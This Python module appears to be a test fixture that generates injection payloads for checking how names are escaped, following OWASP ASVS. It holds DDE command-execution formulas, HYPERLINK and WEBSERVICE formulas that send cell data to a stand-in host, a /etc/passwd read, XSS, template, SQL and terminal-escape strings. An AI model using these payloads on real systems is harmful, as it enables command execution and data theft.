"""Names that a spreadsheet, a browser, a template or a terminal could take for more than texts.

The signs are those of OWASP ASVS 1.2.10 (= + - @ tab, carriage return), with | and % as defusedcsv
and Superset have them, and their full-width twins.
"""

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")
CALLS = (
    "cmd|' /C calc'!A0",
    '1+HYPERLINK("http://a.example/?x="&A1,"Report")',
    'WEBSERVICE("http://a.example/"&A1)',
    "IF(1+1)*cmd|'/C calc'!A0",
)
SPECIAL = (
    '=DDE("cmd";"/C calc";"1")',
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
    "='file:///etc/passwd'#$passwd.A1",
    "{=1+1}",
    "#N/A",
    "#DIV/0!",
    "TRUE",
    "_x003D_1+1",
    "_x000D__x000A_=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</style></title><b>bold</b>",
    "javascript:alert(1)",
    "&lt;i&gt; &amp; &#61;1+1",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><![CDATA[<f>1+1</f>]]>",
    "{{7*7}}{% for %}",
    "{0} {cost} {channel.__class__}",
    "%s %d %(name)s %%",
    "${7*7} #{7*7}",
    "'; DROP TABLE held_0; --",
    "[bold red]x[/bold red] [link=http://a.example]y[/link]",
    '\\u003d1 \\" \\',
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x9b2J",
    "a\x08\x08\x7fb",
    "\u202e1+1=",
    "\u200b=1+1",
    "\ufeff=1+1",
    "a\u2028=1+1",
    "a\x0b\x0c=1+1",
)
AROUND = ("{}", " {}", "\t{}", "'{}", '"{}', "\n{}", "a\n{}", "\u00a0{}")

PAYLOADS = tuple(
    dict.fromkeys(
        around.replace("{}", name)
        for around in AROUND
        for name in (*(sign + call for sign in SIGNS for call in CALLS), *SPECIAL)
    )
)
